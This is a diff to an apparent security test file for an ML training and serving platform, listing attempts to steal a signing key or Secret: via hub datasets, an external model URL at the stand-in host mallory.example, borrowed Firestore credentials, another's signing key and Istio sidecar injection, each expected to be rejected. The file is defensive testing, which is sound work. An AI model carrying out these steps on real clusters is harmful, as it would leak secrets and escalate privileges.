@@ -34,7 +34,7 @@ def model(name: str, **spec: Any) -> dict[str, Any]:
 
 def hub_run(**source: Any) -> dict[str, Any]:
     """A run on a dataset from a hub."""
-    return run(datasets=[{"name": "hub", "source": {"huggingFace": {**_HUB, **source, "path": "data.jsonl"}}}])
+    return run(datasets=[{"name": "hub", "source": {"huggingFace": {**_HUB, **source, "file": "data.jsonl"}}}])
 
 
 def pod_run(**settings: Any) -> dict[str, Any]:
@@ -139,11 +139,11 @@ def elsewhere(manifest: dict[str, Any]) -> dict[str, Any]:
 ATTEMPTS = (
     Attempt("have a run send the signing key to a hub, and read it in the error", AUTHOR, created(hub_run()), _SECRET, "C1"),
     Attempt("the same by the model's base", AUTHOR, created(model("mine", baseModel={"name": "tiny", "source": {"huggingFace": _HUB}})), _SECRET, "C1"),
-    Attempt("the same by the held-out set", AUTHOR, patched({"training": {"evaluation": {"dataset": {"name": "hub", "source": {"huggingFace": {**_HUB, "path": "data.jsonl"}}}}}}), _SECRET, "C1"),
-    Attempt("the same by what every Major run trains", AUTHOR, patched({"training": {"datasets": [{"name": "hub", "source": {"huggingFace": {**_HUB, "path": "data.jsonl"}}}]}}), _SECRET, "C1"),
+    Attempt("the same by the held-out set", AUTHOR, patched({"training": {"evaluation": {"dataset": {"name": "hub", "source": {"huggingFace": {**_HUB, "file": "data.jsonl"}}}}}}), _SECRET, "C1"),
+    Attempt("the same by what every Major run trains", AUTHOR, patched({"training": {"datasets": [{"name": "hub", "source": {"huggingFace": {**_HUB, "file": "data.jsonl"}}}]}}), _SECRET, "C1"),
     Attempt("have clients' questions carry a Secret to a URL", AUTHOR, patched({"serving": {"externalModels": [{"name": "mine", "url": "http://mallory.example/v1", "model": "m", "keySecret": _SIGNING}]}}), _SECRET, "H4"),
     Attempt("mount a Secret as Firestore's credentials", AUTHOR, created(model("mine", records={"firestore": {"projectID": "mallory", "credentialsSecret": "zero-signing-keys"}})), _SECRET, "H4"),
-    Attempt("sign one's own model with another's key", AUTHOR, created(model("mine", certification={"signingKeySecret": "zero-signing-keys"})), _SECRET, "H4"),
+    Attempt("sign one's own model with another's key", AUTHOR, created(model("mine", certification={"signingKeySecret": "zero-signing-keys", "trustedKeys": ["$public_key"]})), _SECRET, "H4"),
     Attempt("have a mesh inject a container where the key is mounted", AUTHOR, created(pod_run(annotations={"sidecar.istio.io/inject": "true", "inject.istio.io/templates": "mine"})), schema("annotations of Kueue, Volcano, YuniKorn, autoscalers, clouds and Prometheus are taken, and no other"), "H5"),
     Attempt("the same by a label", AUTHOR, created(pod_run(labels={"sidecar.istio.io/inject": "true"})), schema("a label of your own goes without a prefix"), "H5"),
     Attempt("take the labels of a serving pod", AUTHOR, created(pod_run(labels={"oneseek.io/colour": "$colour"})), schema("a label of your own goes without a prefix"), "held"),
